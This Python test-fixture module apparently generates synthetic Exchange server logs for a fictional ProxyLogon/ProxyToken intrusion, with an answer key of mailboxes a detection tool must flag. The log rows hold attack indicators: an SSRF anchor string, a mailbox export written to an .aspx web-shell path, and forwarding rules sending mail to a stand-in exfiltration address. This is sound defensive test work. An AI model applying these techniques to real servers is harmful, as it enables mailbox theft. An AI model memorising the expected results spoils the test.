"""A generated case for the mailbox impact: Northwind's Exchange server EXCH01 in April 2021.

Invented mailboxes, addresses and traffic; every log that shows mailbox access gets attack rows and
benign rows around them (users on their own clients, health probes, the server's own SYSTEM calls,
an administrator's ordinary work). ``EXPECTED`` is what the impact must list; ``BENIGN`` what it must
not.
"""

from __future__ import annotations

import csv
import io
import json
import uuid
from datetime import UTC, datetime, timedelta
from pathlib import Path

from exhunt.demo.formats import HTTPPROXY_FIELDS, exchange_iso, exchange_log

V15 = "C/Program Files/Microsoft/Exchange Server/V15"
DOMAIN = "northwind.example"
SERVER_IP = "10.20.0.5"
ATTACKER = "198.51.100.66"  # behind the ProxyLogon SSRF finding
SSRF_CLIENT = "192.0.2.99"  # only seen in SSRF-fed SYSTEM back-end calls (no finding names it)
PROXYTOKEN_CLIENT = "203.0.113.150"
ATTACKER_UA = "python-requests/2.25.1"
BROWSER_UA = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
              "Chrome/90.0 Safari/537.36")
DROP = "drop@exfil.example"
T0 = datetime(2021, 4, 6, 1, 0, 0, tzinfo=UTC)
SID = "S-1-5-21-1111-2222-3333-"

# mailbox -> (how it must show, confidence)
EXPECTED = {
    f"ceo@{DOMAIN}": ({"ews:FindItem", "ews:GetItem", "ews:ExportItems", "audit:MailboxLogin"}, "high"),
    f"carol@{DOMAIN}": ({"owa:attachment"}, "high"),
    "northwind\\dave": ({"mapi"}, "high"),
    f"frank@{DOMAIN}": ({"autodiscover"}, "low"),  # looked up, no mail read
    f"erin@{DOMAIN}": ({"eas"}, "high"),
    f"legal@{DOMAIN}": ({"ews:GetFolder", "ews:GetItem", "audit:FolderBind"}, "high"),
    f"cfo@{DOMAIN}": ({"export-request:web-folder", "fullaccess-permission"}, "high"),
    f"victim@{DOMAIN}": ({"proxytoken-inbox-rule", "inbox-rule-forward"}, "high"),
    f"sales@{DOMAIN}": ({"mailbox-forwarding", "mail-forwarded-out"}, "medium"),
    f"hr@{DOMAIN}": ({"fullaccess-permission"}, "low"),
    f"board@{DOMAIN}": ({"ews:GetItem"}, "high"),  # from a row cut off after ImpersonatedUser
    "*": ({"impersonation-role"}, "low"),
}
BENIGN = (f"alice@{DOMAIN}", "northwind\\alice", f"bob@{DOMAIN}", "northwind\\bob", f"grace@{DOMAIN}",
          "northwind\\grace", "healthmailbox", "helpdesk", f"ghost@{DOMAIN}")
FORWARDED_OUT = 3  # sales@ messages redirected to DROP after the change
FORWARDED_BYTES = 3 * 41_000
EWS_FIELDS = ("DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,AuthenticationType,"
              "IsAuthenticated,AuthenticatedUser,Organization,UserAgent,VersionInfo,ClientIpAddress,ServerHostName,"
              "FrontEndServer,SoapAction,HttpStatus,RequestSize,ResponseSize,ErrorCode,ImpersonatedUser,"
              "ProxyAsUser,ActAsUser,Cookie,CorrelationGuid,PrimaryOrProxyServer,TaskType,RemoteBackendCount,"
              "LocalMailboxCount,RemoteMailboxCount,LocalIdCount,RemoteIdCount").split(",")
RPS_FIELDS = ("DateTime,StartTime,RequestId,ServerHostName,ProcessName,AuthenticatedUser,ExecutingUserSid,IsAdmin,"
              "ClientApplication,Cmdlet,Parameters,ExecutionResult").split(",")
TRACKING_FIELDS = ("date-time,client-ip,client-hostname,server-ip,server-hostname,source-context,connector-id,source,"
                   "event-id,internal-message-id,message-id,network-message-id,recipient-address,recipient-status,"
                   "total-bytes,recipient-count,related-recipient-address,reference,message-subject,sender-address,"
                   "return-path,message-info,directionality").split(",")
IIS_FIELDS = ("date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) "
              "cs(Cookie) sc-status sc-substatus sc-win32-status time-taken").split()


def at(minutes: float) -> datetime:
    return T0 + timedelta(minutes=minutes)


def proxy(ts: datetime, ip: str, protocol: str, stem: str, user: str = "", anchor: str = "", ua: str = BROWSER_UA,
          query: str = "", action: str = "", nbytes: int = 900, hint: str = "") -> dict[str, str]:
    return {"DateTime": exchange_iso(ts), "RequestId": str(uuid.uuid5(uuid.NAMESPACE_OID, f"{ts}{stem}{ip}")),
            "MajorVersion": "15", "MinorVersion": "1", "BuildVersion": "2242", "RevisionVersion": "4",
            "Protocol": protocol, "UrlHost": f"mail.{DOMAIN}", "UrlStem": stem, "ProtocolAction": action,
            "AuthenticationType": "Negotiate" if user else "", "IsAuthenticated": str(bool(user)).lower(),
            "AuthenticatedUser": user, "AnchorMailbox": anchor, "UserAgent": ua, "ClientIpAddress": ip,
            "ServerHostName": "EXCH01", "HttpStatus": "200", "BackEndStatus": "200", "Method": "POST",
            "ProxyAction": "Proxy", "TargetServer": f"exch01.{DOMAIN}", "RoutingHint": hint,
            "ResponseBytes": str(nbytes), "UrlQuery": query}


def ews(ts: datetime, ip: str, user: str, action: str, impersonated: str = "", proxy_as: str = "",
        act_as: str = "", ua: str = "ExchangeServicesClient/15.0.913.15", ids: int = 0, size: int = 2000,
        status: int = 200) -> dict[str, str]:
    return {"DateTime": exchange_iso(ts), "RequestId": str(uuid.uuid5(uuid.NAMESPACE_OID, f"{ts}{action}{ip}")),
            "MajorVersion": "15", "MinorVersion": "1", "BuildVersion": "2242", "RevisionVersion": "4",
            "AuthenticationType": "Negotiate", "IsAuthenticated": "true", "AuthenticatedUser": user,
            "Organization": "", "UserAgent": ua, "ClientIpAddress": ip, "ServerHostName": "EXCH01",
            "FrontEndServer": "EXCH01", "SoapAction": action, "HttpStatus": str(status), "RequestSize": "700",
            "ResponseSize": str(size), "ImpersonatedUser": impersonated, "ProxyAsUser": proxy_as,
            "ActAsUser": act_as, "LocalIdCount": str(ids) if ids else "", "RemoteIdCount": "0" if ids else ""}


def rps(ts: datetime, user: str, sid: str, cmdlet: str, params: str) -> dict[str, str]:
    return {"DateTime": exchange_iso(ts), "StartTime": exchange_iso(ts), "RequestId": str(uuid.uuid4()),
            "ServerHostName": "EXCH01", "ProcessName": "w3wp#MSExchangePowerShellAppPool", "AuthenticatedUser": user,
            "ExecutingUserSid": sid, "IsAdmin": "True", "ClientApplication": "", "Cmdlet": cmdlet,
            "Parameters": params, "ExecutionResult": "Success"}


def track(ts: datetime, event: str, sender: str, recipients: str, related: str = "", nbytes: int = 41_000,
          subject: str = "Q2 pipeline", direction: str = "Originating", mid: str = "") -> dict[str, str]:
    return {"date-time": exchange_iso(ts), "client-ip": SERVER_IP, "server-hostname": "EXCH01",
            "source": "SMTP" if event == "SEND" else "ROUTING", "event-id": event,
            "message-id": mid or f"<{uuid.uuid5(uuid.NAMESPACE_OID, str(ts) + sender)}@{DOMAIN}>",
            "recipient-address": recipients, "recipient-status": "250 2.6.0", "total-bytes": str(nbytes),
            "recipient-count": str(recipients.count(";") + 1), "related-recipient-address": related,
            "message-subject": subject, "sender-address": sender, "return-path": sender, "directionality": direction}


def _web_logs() -> dict[str, list[dict[str, str]]]:
    logs: dict[str, list[dict[str, str]]] = {p: [] for p in ("Ecp", "Ews", "Owa", "Mapi", "Eas", "Autodiscover")}
    for i, name in enumerate(("alice", "bob", "grace")):  # the users' own traffic, all day
        ip = f"10.20.1.{10 + i}"
        for m in range(0, 600, 40):
            ts = at(m + i)
            logs["Owa"].append(proxy(ts, ip, "Owa", "/owa/service.svc", f"NORTHWIND\\{name}", f"SMTP:{name}@{DOMAIN}",
                                     query="?action=GetFileAttachment&app=Mail"))
            logs["Ews"].append(proxy(ts, ip, "Ews", "/EWS/Exchange.asmx", f"NORTHWIND\\{name}",
                                     f"SMTP:{name}@{DOMAIN}"))
            logs["Mapi"].append(proxy(ts, ip, "Mapi", "/mapi/emsmdb/", f"NORTHWIND\\{name}", f"Sid~{SID}{1101 + i}",
                                      hint="WindowsIdentity"))
        logs["Eas"].append(proxy(at(30 + i), f"172.16.0.{20 + i}", "Eas", "/Microsoft-Server-ActiveSync/default.eas",
                                 f"NORTHWIND\\{name}", query=f"?Cmd=Sync&User={name}&DeviceType=iPhone"))
    for m in range(0, 600, 15):  # Managed Availability probes
        logs["Ews"].append(proxy(at(m), "127.0.0.1", "Ews", "/EWS/Exchange.asmx", "NORTHWIND\\HealthMailbox0a1b",
                                 f"Sid~{SID}1142", ua="AMProbe/Local/ClientAccess"))
    # helpdesk's own Outlook from his usual desk: his account is the attacker's too, his traffic is not
    for m in range(0, 600, 60):
        logs["Mapi"].append(proxy(at(m + 3), "10.20.1.50", "Mapi", "/mapi/emsmdb/", "NORTHWIND\\helpdesk",
                                  f"SMTP:helpdesk@{DOMAIN}", ua="Microsoft Office/16.0"))
    # dave's own Outlook: pairs his SID with his account
    logs["Mapi"].append(proxy(at(5), "10.20.1.40", "Mapi", "/mapi/emsmdb/", "NORTHWIND\\dave", f"Sid~{SID}1105",
                              hint="WindowsIdentity"))
    # the attack: ProxyLogon SSRF (the finding that names ATTACKER and ATTACKER_UA), then mailbox access
    a = ATTACKER
    ssrf = f"ServerInfo~a]@exch01.{DOMAIN}:444/ews/exchange.asmx?#"
    logs["Ecp"].append(proxy(at(60), a, "Ecp", "/ecp/y.js", anchor=ssrf,
                             ua=ATTACKER_UA))
    for k in range(3):  # FindItem, GetItem, ExportItems (the back end logs the action)
        logs["Ews"].append(proxy(at(61 + k), a, "Ews", "/EWS/Exchange.asmx", "NORTHWIND\\helpdesk",
                                 f"SMTP:ceo@{DOMAIN}", ua=ATTACKER_UA, nbytes=5000))
    logs["Owa"].append(proxy(at(70), a, "Owa", "/owa/service.svc/s/GetFileAttachment", "NORTHWIND\\helpdesk",
                             f"SMTP:carol@{DOMAIN}", ua=ATTACKER_UA, query="?id=AAMk&X-OWA-CANARY=x", nbytes=250_000))
    logs["Mapi"].append(proxy(at(72), a, "Mapi", "/mapi/emsmdb/", "NORTHWIND\\helpdesk", f"Sid~{SID}1105",
                              ua=ATTACKER_UA, nbytes=64_000))
    logs["Autodiscover"].append(proxy(at(74), a, "Autodiscover", "/autodiscover/autodiscover.xml", "",
                                      "SMTP:Frank@Northwind.Example", ua=ATTACKER_UA))
    logs["Eas"].append(proxy(at(76), a, "Eas", "/Microsoft-Server-ActiveSync/default.eas", "NORTHWIND\\helpdesk",
                             ua=ATTACKER_UA, query=f"?Cmd=Sync&User=erin%40{DOMAIN}&DeviceId=X1&DeviceType=Android"))
    return logs


def _ews_backend() -> list[dict[str, str]]:
    rows = []
    for m in range(0, 600, 15):
        rows.append(ews(at(m), "::1", "HealthMailbox0a1b@northwind.example", "GetFolder", ua="AMProbe/Local"))
        rows.append(ews(at(m + 1), SERVER_IP, "NT AUTHORITY\\SYSTEM", "GetUserOofSettings", act_as=f"bob@{DOMAIN}"))
    for i, name in enumerate(("alice", "bob")):
        rows.append(ews(at(20 + i), f"10.20.1.{10 + i}", f"{name}@{DOMAIN}", "GetItem", ids=2))
    for k, (action, ids) in enumerate((("FindItem", 0), ("GetItem", 5), ("ExportItems", 12))):
        rows.append(ews(at(61 + k) + timedelta(seconds=1), ATTACKER, "NORTHWIND\\helpdesk", action,
                        impersonated=f"CEO@{DOMAIN}", ua=ATTACKER_UA, ids=ids, size=40_000))
    # the back end refused or failed these: no mail of ghost@ was read
    for k, code in enumerate((403, 500)):
        rows.append(ews(at(64 + k), ATTACKER, "NORTHWIND\\helpdesk", "GetItem", impersonated=f"ghost@{DOMAIN}",
                        ua=ATTACKER_UA, ids=4, status=code))
    rows.append(ews(at(80), SSRF_CLIENT, "NT AUTHORITY\\SYSTEM", "GetFolder", proxy_as=f"Sid~{SID}1108~RemoteUser",
                    ua="ExchangeServicesClient/0.0.0.0"))
    for m in (200, 201):  # svc-archive, granted ApplicationImpersonation below, reads legal@
        rows.append(ews(at(m), "10.20.2.9", "NORTHWIND\\svc-archive", "GetItem", impersonated=f"legal@{DOMAIN}",
                        ids=40, size=900_000))
    return rows


def _truncated_ews_row() -> bytes:
    """The last row of a log copied while Exchange was writing it: cut after ``ImpersonatedUser``."""
    row = ews(at(85), ATTACKER, "NORTHWIND\\helpdesk", "GetItem", impersonated=f"board@{DOMAIN}", ua=ATTACKER_UA,
              ids=3)
    line = ",".join(row.get(f, "") for f in EWS_FIELDS)
    return line[: line.index(f"board@{DOMAIN}") + len(f"board@{DOMAIN}")].encode()


def _rps() -> list[dict[str, str]]:
    return [
        rps(at(2), "NORTHWIND\\HealthMailbox0a1b", f"{SID}1142", "Get-Mailbox", '-ResultSize "1"'),
        rps(at(40), "NORTHWIND\\legal", f"{SID}1108", "Get-Mailbox", '-Identity "legal"'),
        rps(at(90), "NORTHWIND\\helpdesk", f"{SID}1120", "New-MailboxExportRequest",
            '-Mailbox "cfo" -FilePath "\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\cfo.aspx"'),
        rps(at(150), "NORTHWIND\\admin", f"{SID}500", "New-ManagementRoleAssignment",
            '-Role "ApplicationImpersonation" -User "NORTHWIND\\svc-archive"'),
        rps(at(160), "NORTHWIND\\admin", f"{SID}500", "Add-MailboxPermission",
            f'-Identity "hr@{DOMAIN}" -User "NORTHWIND\\temp01" -AccessRights FullAccess -InheritanceType All'),
        rps(at(170), "NORTHWIND\\admin2", f"{SID}501", "Set-Mailbox",
            f'-Identity "sales@{DOMAIN}" -ForwardingSmtpAddress "smtp:{DROP}" -DeliverToMailboxAndForward $true'),
        rps(at(175), "NORTHWIND\\alice", f"{SID}1101", "New-InboxRule",
            f'-Mailbox "alice@{DOMAIN}" -Name "to bob" -ForwardTo "bob@{DOMAIN}"'),
        rps(at(176), "NORTHWIND\\admin", f"{SID}500", "Get-InboxRule", f'-Mailbox "hr@{DOMAIN}"'),
    ]


def _ecp() -> list[dict[str, str]]:
    url = f"/ecp/victim@{DOMAIN}/RulesEditor/InboxRules.svc/NewObject"
    data = (f"S:TIME=120;S:SID=;S:CMD=New-InboxRule.Mailbox='victim@{DOMAIN}'.ForwardTo='{DROP}'.Name='sync'"
            f";S:REQID=;S:URL={url};S:REFERRER=;S:EX=;S:ACTID=;S:RS=0;S:BLD=15.1.2242.4")
    benign = ("S:TIME=13;S:SID=;S:CMD=Get-InboxRule;S:REQID=;S:URL=/ecp/RulesEditor/InboxRules.svc/GetList"
              ";S:REFERRER=;S:EX=;S:ACTID=;S:RS=0;S:BLD=15.1.2242.4")
    return [{"TimeStamp": exchange_iso(at(30)), "ServerName": "EXCH01", "EventId": "ECP.Request", "EventData": benign},
            {"TimeStamp": exchange_iso(at(100) + timedelta(seconds=2)), "ServerName": "EXCH01",
             "EventId": "ECP.Request", "EventData": data}]


def _iis() -> bytes:
    rows = [
        (at(100), "POST", f"/ecp/victim@{DOMAIN}/RulesEditor/InboxRules.svc/NewObject", "-", PROXYTOKEN_CLIENT,
         "Mozilla/5.0+(X11;+Linux)", "SecurityToken=x"),
        (at(101), "GET", "/owa/", "NORTHWIND\\alice", "10.20.1.10", BROWSER_UA.replace(" ", "+"), "-"),
    ]
    out = io.StringIO()
    out.write("#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n"
              f"#Date: {T0:%Y-%m-%d %H:%M:%S}\r\n#Fields: {' '.join(IIS_FIELDS)}\r\n")
    for ts, method, stem, user, ip, ua, cookie in rows:
        out.write(f"{ts:%Y-%m-%d %H:%M:%S} {SERVER_IP} {method} {stem} - 443 {user} {ip} {ua} {cookie} 200 0 0 31\r\n")
    return out.getvalue().encode()


def _tracking() -> list[dict[str, str]]:
    sales = f"sales@{DOMAIN}"
    rows = [track(at(120), "RECEIVE", "partner@customer.example", sales, direction="Incoming"),
            track(at(121), "SEND", sales, "buyer@customer.example", subject="before the change")]
    for k in range(FORWARDED_OUT):
        mid = f"<fwd{k}@customer.example>"
        rows.append(track(at(180 + k), "RECEIVE", f"client{k}@customer.example", sales, mid=mid, direction="Incoming"))
        rows.append(track(at(180 + k), "REDIRECT", f"client{k}@customer.example", DROP, related=sales, mid=mid))
        rows.append(track(at(180 + k) + timedelta(seconds=3), "SEND", f"client{k}@customer.example", DROP,
                          related=sales, mid=mid))
    rows.append(track(at(190), "SEND", f"alice@{DOMAIN}", f"bob@{DOMAIN}", subject="lunch"))
    return rows


def _management_events() -> bytes:
    doc = {"Event": {"System": {"Provider": {"#attributes": {"Name": "MSExchange CmdletLogs"}},
                                "EventID": {"#attributes": {"Qualifiers": 16384}, "#text": 1},
                                "TimeCreated": {"#attributes": {"SystemTime": exchange_iso(at(95))}},
                                "EventRecordID": 31, "Channel": "MSExchange Management",
                                "Computer": f"EXCH01.{DOMAIN}"},
                     "EventData": {"Data": {"#text": [
                         "Add-MailboxPermission",
                         f'-Identity "cfo@{DOMAIN}" -User "NORTHWIND\\helpdesk" -AccessRights "FullAccess"',
                         "NORTHWIND\\helpdesk"]}}}}
    return (json.dumps(doc) + "\n").encode()


def _audit_csv() -> bytes:
    cols = ["Operation", "OperationResult", "LogonType", "FolderPathName", "ClientInfoString", "ClientIPAddress",
            "MailboxOwnerUPN", "MailboxOwnerSid", "LogonUserDisplayName", "LogonUserSid", "LastAccessed"]
    rows = [
        ["MailboxLogin", "Succeeded", "Owner", "", "Client=MSExchangeRPC", "10.20.1.10", f"alice@{DOMAIN}",
         f"{SID}1101", "NORTHWIND\\alice", f"{SID}1101", "4/6/2021 1:05:00 AM"],
        ["MailboxLogin", "Succeeded", "Delegate", "", "Client=WebServices", f"[{ATTACKER}]:51234", f"ceo@{DOMAIN}",
         f"{SID}1110", "NORTHWIND\\helpdesk", f"{SID}1120", "4/6/2021 2:02:00 AM"],
        ["FolderBind", "Succeeded", "Delegate", "\\Inbox", "Client=WebServices", "10.20.2.9", f"legal@{DOMAIN}",
         f"{SID}1108", "NORTHWIND\\svc-archive", f"{SID}1130", "2021-04-06T04:20:00Z"],
    ]
    out = io.StringIO()
    out.write('#TYPE Microsoft.Exchange.Management.SystemConfigurationTasks.MailboxAuditLogRecord\r\n')
    writer = csv.writer(out, lineterminator="\r\n", quoting=csv.QUOTE_ALL)
    writer.writerow(cols)
    writer.writerows(rows)
    return out.getvalue().encode()


def write_case(root: Path) -> Path:
    """Write the collection under ``root``; returns it."""
    files: dict[str, bytes] = {}
    for protocol, rows in _web_logs().items():
        rows.sort(key=lambda r: r["DateTime"])
        files[f"{V15}/Logging/HttpProxy/{protocol}/HttpProxy_2021040601-1.LOG"] = exchange_log(
            "15.01.2242.004", "HttpProxy Logs", HTTPPROXY_FIELDS, T0, rows)
    files[f"{V15}/Logging/Ews/Ews_2021040601-1.LOG"] = exchange_log(
        "15.01.2242.004", "EWS Logs", EWS_FIELDS, T0, sorted(_ews_backend(), key=lambda r: r["DateTime"])
    ) + _truncated_ews_row()
    files[f"{V15}/Logging/CmdletInfra/Rps_Cmdlet/Rps_Cmdlet_2021040601-1.LOG"] = exchange_log(
        "15.01.2242.004", "Rps Cmdlet Logs", RPS_FIELDS, T0, _rps())
    files[f"{V15}/Logging/ECP/Server/ECPServer20210406-1.LOG"] = exchange_log(
        "15.0.0.0", "ECP Server Log", ["TimeStamp", "ServerName", "EventId", "EventData"], T0, _ecp())
    files[f"{V15}/TransportRoles/Logs/MessageTracking/MSGTRK2021040601-1.LOG"] = exchange_log(
        "15.01.2242.004", "Message Tracking Log", TRACKING_FIELDS, T0, _tracking())
    files["C/inetpub/logs/LogFiles/W3SVC1/u_ex210406.log"] = _iis()
    files["collection/MSExchange-Management.ndjson"] = _management_events()
    files["collection/audit/ceo-legal-audit.csv"] = _audit_csv()
    for rel, data in files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    return root
